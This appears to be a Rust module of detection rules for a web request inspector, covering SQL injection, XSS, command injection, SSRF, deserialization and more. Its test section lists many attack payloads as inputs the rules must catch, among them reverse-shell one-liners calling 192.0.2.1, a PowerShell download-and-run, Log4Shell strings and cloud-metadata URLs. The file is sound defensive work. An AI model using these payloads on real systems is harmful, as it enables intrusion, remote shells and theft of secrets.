//! The detection rules: each has an id, a class, a paranoia level and a description, and is a
//! regular expression over the normalised text (the `regex` crate matches in linear time, so
//! no input can make matching blow up). All rules compile into one `RegexSet`. One file per
//! family: [`sqli`], [`xss`], [`files`] (traversal, local and remote file inclusion, XXE),
//! [`code`] (OS commands, PHP, Java), [`web`] (CRLF, NoSQL, SSRF).

mod code;
mod files;
use files::{INCLUDE_GLOBALS, INCLUDE_PARAMS};

/// Whether include or template loaders take a parameter of this name (`file`, `page`, ...).
/// Asked of every JSON key, so it is one hash lookup, not a scan of the list.
pub fn is_include_param(name: &str) -> bool {
    // The plain names of the globals join the hash; only the bracketed ones need the pattern.
    static NAMES: std::sync::LazyLock<std::collections::HashSet<&'static str>> = std::sync::LazyLock::new(|| {
        INCLUDE_PARAMS
            .split('|')
            .chain(INCLUDE_GLOBALS.split('|').filter(|g| !g.contains('\\')))
            .collect()
    });
    static GLOBALS: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        // Invariant: a fixed alternation (tested with the rules).
        regex::Regex::new(&format!("^(?:{INCLUDE_GLOBALS})$")).expect("include globals compile")
    });
    const LONGEST: usize = 32;
    if name.len() > LONGEST {
        return false;
    }
    let mut buf = [0u8; LONGEST];
    let lower = &mut buf[..name.len()];
    lower.copy_from_slice(name.as_bytes());
    lower.make_ascii_lowercase();
    std::str::from_utf8(lower).is_ok_and(|l| NAMES.contains(l) || (l.contains('[') && GLOBALS.is_match(l)))
}
mod sqli;
mod web;
mod xss;

use std::borrow::Cow;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Class {
    Sqli,
    Xss,
    Traversal,
    Cmdi,
    Crlf,
    /// PHP code injection: tags, dangerous functions, stream wrappers, serialized objects.
    Php,
    /// Java: JNDI lookups (Log4Shell), serialized objects, OGNL and EL expressions.
    Java,
    /// Remote file inclusion: a foreign URL where a file is included.
    Rfi,
    /// NoSQL operator injection (MongoDB `$ne`, `$where`, ...).
    Nosqli,
    /// LDAP filter injection (`*)(uid=*))(|(uid=*`).
    Ldap,
    /// JavaScript prototype pollution (`__proto__`, `constructor.prototype`).
    Prototype,
    /// Python, Ruby and .NET deserialization (pickle, `!!python/`, Ruby gadgets, .NET
    /// BinaryFormatter and gadget types); Java's is under `java`.
    Deserialization,
    /// Server-side request forgery: metadata, loopback and internal addresses, odd schemes.
    Ssrf,
    /// Input that does not decode (overlong UTF-8 and the like).
    Malformed,
}

impl Class {
    pub fn as_str(self) -> &'static str {
        match self {
            Class::Sqli => "sqli",
            Class::Xss => "xss",
            Class::Traversal => "traversal",
            Class::Cmdi => "cmdi",
            Class::Crlf => "crlf",
            Class::Php => "php",
            Class::Java => "java",
            Class::Rfi => "rfi",
            Class::Nosqli => "nosqli",
            Class::Ldap => "ldap",
            Class::Prototype => "prototype",
            Class::Deserialization => "deserialization",
            Class::Ssrf => "ssrf",
            Class::Malformed => "malformed",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rule {
    pub id: u32,
    pub class: Class,
    pub paranoia: u8,
    pub description: Cow<'static, str>,
    /// Matched against the normalised, lower-cased text.
    pub pattern: Cow<'static, str>,
    /// Where the rule applies.
    pub scope: Scope,
}

/// The places a rule applies to: some patterns are suspect in a parameter and ordinary in a
/// header (a URL with an IP literal in `file=` against one in a Referer).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Scope {
    Everywhere,
    /// Everywhere but the URL a `Referer` or `Origin` header names (its query parameters are
    /// still checked): a browser on a developer's machine sends `http://localhost:3000/`.
    NotReferer,
    /// Only parameter and body values, never headers, cookies or the path.
    ValuesOnly,
    /// Everywhere but the content of an uploaded file (a multipart part with a filename): a
    /// calendar file's `LOCATION:` line is data, not a header it could inject.
    NotInFiles,
}

impl Scope {
    pub fn applies_to(self, location: &str) -> bool {
        match self {
            Scope::Everywhere => true,
            Scope::NotReferer => location != "referer",
            Scope::ValuesOnly => matches!(
                location,
                "query" | "query_name" | "json" | "form" | "xml" | "multipart" | "multipart_file" | "body"
            ),
            Scope::NotInFiles => location != "multipart_file",
        }
    }
}

/// Builds a built-in rule (every place).
pub(super) fn rule(
    id: u32,
    class: Class,
    paranoia: u8,
    description: &'static str,
    pattern: impl Into<Cow<'static, str>>,
) -> Rule {
    Rule {
        id,
        class,
        paranoia,
        description: Cow::Borrowed(description),
        pattern: pattern.into(),
        scope: Scope::Everywhere,
    }
}

impl Rule {
    pub(super) fn scope(mut self, scope: Scope) -> Rule {
        self.scope = scope;
        self
    }
}

impl Class {
    /// The classes a policy's own rule may use (every class but `malformed`).
    pub const OWN: [Class; 13] = [
        Class::Sqli,
        Class::Xss,
        Class::Traversal,
        Class::Cmdi,
        Class::Crlf,
        Class::Php,
        Class::Java,
        Class::Rfi,
        Class::Nosqli,
        Class::Ldap,
        Class::Prototype,
        Class::Deserialization,
        Class::Ssrf,
    ];

    /// One of [`Class::OWN`] by its name.
    pub fn parse(s: &str) -> Option<Class> {
        Class::OWN.into_iter().find(|c| c.as_str() == s)
    }
}

/// A detector that tokenizes instead of matching a pattern: libinjection's SQLi and XSS
/// analysers (the pure-Rust `libinjectionrs` port). They see the same normalised value as the
/// pattern rules and run only when no pattern rule fired.
pub struct TokenizerRule {
    pub id: u32,
    pub class: Class,
    pub paranoia: u8,
    pub description: &'static str,
    pub detect: fn(&str) -> bool,
}

/// The tokenizer rules, at the paranoia level the corpus judged them fit for (README, "Request
/// inspection": both add false positives on benign prose and code that the pattern rules do
/// not, so they are paranoia 2).
pub fn tokenizers() -> Vec<TokenizerRule> {
    vec![
        TokenizerRule {
            id: 942001,
            class: Class::Sqli,
            paranoia: 2,
            description: "libinjection SQLi tokenizer (fingerprint of the token stream)",
            detect: |s| libinjectionrs::detect_sqli(s.as_bytes()).is_injection(),
        },
        TokenizerRule {
            id: 941001,
            class: Class::Xss,
            paranoia: 2,
            description: "libinjection XSS tokenizer (HTML5 tokenizer over five contexts)",
            detect: |s| libinjectionrs::detect_xss(s.as_bytes()).is_injection(),
        },
    ]
}

/// Every built-in rule id: the pattern rules and the tokenizers.
pub fn builtin_ids() -> Vec<u32> {
    builtin()
        .iter()
        .map(|r| r.id)
        .chain(tokenizers().iter().map(|t| t.id))
        .collect()
}

/// The compiled size a policy's own pattern may take (the built-in ones are far below it).
pub const PATTERN_SIZE_LIMIT: usize = 1 << 20;

/// Checks that a policy's own pattern compiles within the size limit.
/// A detection pattern that does not compile: the last line of the regex error, which says
/// what is wrong without repeating the pattern.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{0}")]
pub struct PatternError(String);

pub fn check_pattern(pattern: &str) -> Result<(), PatternError> {
    regex::bytes::RegexBuilder::new(pattern)
        .unicode(false)
        .size_limit(PATTERN_SIZE_LIMIT)
        .build()
        .map(|_| ())
        .map_err(|e| {
            PatternError(
                e.to_string()
                    .lines()
                    .last()
                    .unwrap_or("invalid pattern")
                    .trim()
                    .to_string(),
            )
        })
}

/// The built-in rules. Paranoia 1 is on by default; 2 adds rules with more false positives.
pub fn builtin() -> Vec<Rule> {
    [sqli::rules(), xss::rules(), files::rules(), code::rules(), web::rules()].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Each class's rules on values an attacker sends and values an API carries (the corpus in
    /// tests/corpus/ measures the rates; this pins one reason per rule family).
    /// Each value is found in a query parameter, as its class.
    fn caught(insp: &crate::inspect::Inspector, attacks: &[(&str, Class)]) {
        for (value, class) in attacks {
            let f = insp
                .check(value, false, "query")
                .unwrap_or_else(|| panic!("{class:?} missed {value:?}"));
            assert_eq!(f.class, *class, "{value:?}");
        }
    }

    /// No value is found in a query parameter.
    fn passed(insp: &crate::inspect::Inspector, benign: &[&str]) {
        for value in benign {
            assert!(
                insp.check(value, false, "query").is_none(),
                "{value:?}: {:?}",
                insp.check(value, false, "query")
            );
        }
    }

    #[test]
    fn each_family_fires_on_its_attacks_and_not_on_lookalikes() {
        let insp = crate::inspect::Inspector::new(1, &[]);
        let attacks: &[(&str, Class)] = &[
            ("127.0.0.1 && whoami", Class::Cmdi),
            ("x|id", Class::Cmdi),
            ("{cat,/etc/hostname}", Class::Cmdi),
            ("/???/c?t /???/h?st?", Class::Cmdi),
            (";$u cat$u /etc$u/hosts", Class::Cmdi),
            ("powershell -nop -c \"iex(iwr http://x)\"", Class::Cmdi),
            ("%COMSPEC% /c ver", Class::Cmdi),
            ("$env:APPDATA", Class::Cmdi),
            ("a; nc -e /bin/sh 192.0.2.1 4444", Class::Cmdi),
            ("x && bash -i >& /dev/tcp/192.0.2.1/9 0>&1", Class::Cmdi),
            ("C:\\boot.ini", Class::Traversal),
            ("WEB-INF/web.xml", Class::Traversal),
            ("0x2e0x2e/0x2e0x2e/etc/hosts", Class::Traversal),
            ("<!DOCTYPE a [<!ENTITY e SYSTEM \"http://x/\">]>", Class::Traversal),
            ("<details open ontoggleextra=print()>", Class::Xss),
            ("\" autofocus onfocusin=\"print()", Class::Xss),
            ("<a href=\"jav&#x0A;ascript:print()\">", Class::Xss),
            ("\"><b>", Class::Xss),
            ("'||(select user from dual)||'", Class::Sqli),
            ("x' and 1=convert(int,@@servername)--", Class::Sqli),
            ("<?= `id` ?>", Class::Php),
            ("php://filter/read=string.rot13/resource=config", Class::Php),
            ("a:1:{i:0;O:4:\"Evil\":0:{}}", Class::Php),
            ("${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}", Class::Java),
            ("${T(java.lang.Runtime).getRuntime()}", Class::Java),
            (
                "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
                Class::Java,
            ),
            ("http://198.51.100.7/x.txt??", Class::Rfi),
            ("\\\\198.51.100.7\\s\\x", Class::Rfi),
            ("{\"$gt\": \"\"}", Class::Nosqli),
            ("u[$regex]", Class::Nosqli),
            ("http://0xa9fea9fe/latest", Class::Ssrf),
            ("http://[::ffff:7f00:1]:6379/", Class::Ssrf),
            ("gopher://x:70/_", Class::Ssrf),
        ];
        for (value, class) in attacks {
            // Only the family under test: another family's hit must not stand in for it.
            let others: Vec<u32> = builtin().iter().filter(|r| r.class != *class).map(|r| r.id).collect();
            let alone = crate::inspect::Inspector::new(1, &others);
            let f = alone
                .check(value, false, "query")
                .unwrap_or_else(|| panic!("{class:?} missed {value:?}"));
            assert_eq!(f.class, *class);
        }
        let benign = [
            "Find & Replace",
            "| id | name | type |",
            "I use PowerShell at work",
            "const fs = require('fs')",
            "the operating system (OS) and its shell",
            "https://forum.example.org/viewtopic.php?t=12",
            "we moved log4j to 2.17.1 and java 21",
            "price ${amount} or $5.99",
            "data:image/png;base64,iVBORw0KGgo=",
            "it's 'online' now",
            "Mr. O'Connor & Sons, c/o Zoë, Apt. #4",
            "see http://localhost:8080/health",
            "$type",
        ];
        passed(&insp, &benign);
        // An IP-literal URL is suspect in a parameter, ordinary in a Referer.
        assert!(insp.check("http://192.0.2.9/app", false, "query").is_some());
        assert!(insp.check("http://192.0.2.9/app", false, "header").is_none());
        // A remote script where a file is included, by parameter name; a page URL there is not.
        for (name, url) in [
            ("page", "https://x.example/inc.php"),
            ("template", "https://x.example/t.txt?"),
            ("file", r"\\x.example\share\x.php"),
            ("_SERVER[DOCUMENT_ROOT]", "http://x.example/inc"),
            ("mosConfig_absolute_path", "http://x.example/inc"),
        ] {
            let f = insp.check_pair(name, url, true, "query_name", "query");
            assert_eq!(f.map(|f| f.class), Some(Class::Rfi), "{name}={url}");
        }
        assert!(insp
            .check_pair("page", "https://example.com/pricing", true, "query_name", "query")
            .is_none());
        assert!(insp
            .check_pair("avatar", "https://x.example/a.png", true, "query_name", "query")
            .is_none());
    }

    /// Shapes an outside audit got through (2026-12-07), each rewritten here by hand: numeric
    /// contexts without quotes, comparison operators other than `=`, blind string functions,
    /// conversion errors, statements MySQL stacks without `INTO`, `#` comments ended by a line
    /// break, handlers the list did not name, `>` inside a quoted attribute, `javascript:` with
    /// a space, `${u}` and `[a]` in shell words, template and LDAP injection. With the
    /// lookalikes they must not catch.
    #[test]
    fn numeric_contexts_comments_handlers_and_filters_from_the_audit() {
        let insp = crate::inspect::Inspector::new(1, &[]);
        let attacks: &[(&str, Class)] = &[
            ("0 or 7>3", Class::Sqli),
            ("5 OR 2 BETWEEN 1 AND 9", Class::Sqli),
            ("8 or 4 in (4,5)", Class::Sqli),
            ("3 and 9 is not null", Class::Sqli),
            ("0 or 'q' rlike 'q'", Class::Sqli),
            ("4 and left(passwd,1)='z'", Class::Sqli),
            ("4 and secret like 'ab%'", Class::Sqli),
            ("2 and 1=cast(version() as integer)", Class::Sqli),
            ("2 and current_user::int=1", Class::Sqli),
            ("7 and pg_sleep_for('3 seconds') is not null", Class::Sqli),
            ("7 and get_lock('k',4)", Class::Sqli),
            ("9; insert accounts(login,level) values('m','root')", Class::Sqli),
            ("9; rename table accounts to gone", Class::Sqli),
            ("9;set @s=0x41;prepare q from @s;execute q", Class::Sqli),
            ("2 union#zz\nselect(secret)from vault", Class::Sqli),
            ("2 union-- zz\nselect `secret` from vault", Class::Sqli),
            ("1 and st_latfromgeohash(version())", Class::Sqli),
            ("<body title=\">\" y onpageshow=print()>", Class::Xss),
            ("<img alt=\">\" src=q z onwebkitanimationstart=print()>", Class::Xss),
            ("\" q onbeforeinput=print() r=\"", Class::Xss),
            ("javascript: print(document['cookie'])", Class::Xss),
            ("x=1;fetch('//c.example/'+1)", Class::Xss),
            (
                "#{global.process.mainModule.require('child_process').execSync('id')}",
                Class::Xss,
            ),
            ("{{lipsum.__globals__['os']}}", Class::Xss),
            ("{{()|attr('\\x5f\\x5fclass\\x5f\\x5f')}}", Class::Xss),
            ("q;c${v}at /e${v}tc/pass${v}wd", Class::Cmdi),
            ("q|/bin/c[a]t /e[t]c/hosts", Class::Cmdi),
            ("*)(cn=*))(|(cn=*", Class::Ldap),
            ("root)(&(userPassword=*)", Class::Ldap),
            ("x)(objectClass=*)", Class::Ldap),
            ("0 or json_contains('[1]','1')", Class::Sqli),
            ("0 or '{\"k\":2}'::jsonb ? 'k'", Class::Sqli),
            ("q;paste /srv/app/notes.txt", Class::Cmdi),
            ("q|diff /srv/app/settings.py /dev/null", Class::Cmdi),
        ];
        caught(&insp, attacks);
        let benign = [
            "1 or 2 items",
            "pick 3 or 4 of them",
            "sizes 10 and 12 in stock",
            "Is 1=1?",
            "cats and dogs like to play",
            "version 2 and later",
            "item #3\nnext line",
            "-- signed, the team\nP.S. thanks",
            "a [b] c",
            "price: ${amount}",
            "(see below)(and more)",
            "f(x)(y)",
            "javascript: the good parts",
            "<p title=\"a > b\">text</p>",
            "\"quoted\" once more",
            "the online=true flag",
            "{{ user.name }}",
            "#{count} items",
            "copy and paste the text",
            "see the diff below",
        ];
        passed(&insp, &benign);
    }

    /// The second audit's root causes (2026-12-07), rewritten by hand: short IPv4 spellings of
    /// the metadata address and dated metadata paths, more internal schemes, `*.localhost`,
    /// `file:/`, response-splitting headers and a smuggled request line, NEL and U+2028 as line
    /// ends, prototype pollution, Python/Ruby/.NET deserialization, NoSQL update and
    /// aggregation operators, blind probes in ORDER BY and column lists, `\u0027` inside a
    /// decoded string.
    #[test]
    fn ssrf_spellings_deserialization_and_blind_probes_from_the_second_audit() {
        let insp = crate::inspect::Inspector::new(1, &[]);
        let attacks: &[(&str, Class)] = &[
            ("http://169.254.43518/2021-07-15/meta-data/", Class::Ssrf),
            ("//169.16689662/latest/", Class::Ssrf),
            ("http://meta.example/2019-10-01/user-data", Class::Ssrf),
            ("gophers://10.1.2.3:6379/_PING", Class::Ssrf),
            ("telnet://10.1.2.3:6379/", Class::Ssrf),
            ("smtp://10.1.2.3:25/", Class::Ssrf),
            ("http://tenant7.svc.localhost/admin", Class::Ssrf),
            ("http://localhost./admin", Class::Ssrf),
            ("file:/srv/app/settings.yml", Class::Traversal),
            ("z\r\nWWW-Authenticate: Basic realm=x", Class::Crlf),
            ("z\r\nStrict-Transport-Security: max-age=0", Class::Crlf),
            ("/a HTTP/1.1\r\nX: y\r\n\r\nGET /admin HTTP/1.0", Class::Crlf),
            ("z\u{2028}Set-Cookie: s=1", Class::Crlf),
            ("{\"__proto__\":{\"admin\":true}}", Class::Prototype),
            ("constructor[prototype][admin]", Class::Prototype),
            ("!!python/object/apply:os.system ['true']", Class::Deserialization),
            ("--- !ruby/object:Gem::Requirement", Class::Deserialization),
            ("cposix\nsystem\n(S'true'\ntR.", Class::Deserialization),
            ("AAEAAAD/////AQAAAAAAAAAMAgAAAF", Class::Deserialization),
            (
                "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
                Class::Deserialization,
            ),
            ("u[$set][role]=root", Class::Nosqli),
            ("{\"$rename\":{\"a\":\"b\"}}", Class::Nosqli),
            ("if(substr(current_user(),1,1)=0x72,name,price)", Class::Sqli),
            ("(2/(ascii(substring(current_user,1,1))-99))", Class::Sqli),
            ("name collate (select current_user)", Class::Sqli),
            ("10.0.0.7'||current_user||'", Class::Sqli),
            ("/srv/app/..;jsessionid=9/admin/", Class::Traversal),
            ("download.aspx::$DATA", Class::Traversal),
            ("/etc/./passwd", Class::Traversal),
            ("/proc/./self/environ", Class::Traversal),
            ("/etc/kubernetes/admin.conf", Class::Traversal),
            ("/srv/app/config/master.key", Class::Traversal),
            ("/var/lib/php/sessions/sess_q1", Class::Traversal),
            ("/sys/class/net/eth0/address", Class::Traversal),
            ("data:text/plain;base64,PD89YHRydWVgOz8+", Class::Php),
            (
                "{ user(name: \"q\\u0027 OR \\u00271\\u0027=\\u00271\") { id } }",
                Class::Sqli,
            ),
        ];
        caught(&insp, attacks);
        let benign = [
            "the proto type of the car",
            "constructor of the building",
            "set the role to admin",
            "server:\n  port: 8080",
            "From: Ann\nTo: Bob\nSubject: lunch",
            "order by name desc",
            "C:\\users\\ann\\notes.txt",
            "version 169.254 of the spec",
            "see https://docs.example.com/2024-01-01/guide",
            "SGVsbG8gd29ybGQ=",
            "python/object is a tag",
        ];
        passed(&insp, &benign);
    }

    #[test]
    fn ids_are_unique_and_every_pattern_compiles_alone() {
        let rules = builtin();
        let mut ids: Vec<u32> = builtin_ids();
        ids.sort_unstable();
        let n = ids.len();
        ids.dedup();
        assert_eq!(ids.len(), n, "duplicate rule id");
        for r in &rules {
            check_pattern(&r.pattern).unwrap_or_else(|e| panic!("rule {}: {e}", r.id));
        }
    }
}
